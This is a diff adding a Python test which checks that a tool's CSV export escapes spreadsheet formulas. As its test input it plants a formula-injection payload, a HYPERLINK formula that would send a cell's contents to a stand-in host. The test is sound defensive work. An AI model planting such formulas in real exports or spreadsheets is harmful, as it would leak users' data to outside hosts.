@@ -121,6 +121,21 @@ def test_export_formats(db, tmp_path):
     assert json.loads(out.read_text())[0]["mitigations"][0]["owner"] == "Credit Risk Analytics"
 
 
+def test_csv_export_never_hands_a_spreadsheet_a_formula(db, tmp_path):
+    text = (EXAMPLES / "credit.yaml").read_text(encoding="utf-8")
+    title = "Approval rates differ by age group"
+    assert title in text
+    planted = tmp_path / "credit.yaml"
+    planted.write_text(text.replace(title, '=HYPERLINK("http://x.example/?d="&A1,"Open")'), encoding="utf-8")
+    rb("import", str(planted))
+    rows = list(csv.DictReader(io.StringIO(rb("export", "--format", "csv"))))
+    cells = [v for r in rows for v in r.values()]
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    assert '\'=HYPERLINK("http://x.example/?d="&A1,"Open")' in cells  # kept, shown as text
+    # JSON keeps the findings' own text
+    assert any(r["title"].startswith("=HYPERLINK") for r in json.loads(rb("export", "--format", "json")))
+
+
 def test_import_bad_file_writes_nothing(db, tmp_path):
     bad = tmp_path / "bad.yaml"
     bad.write_text((EXAMPLES / "agent.yaml").read_text().replace("severity: high", "severity: huge"))
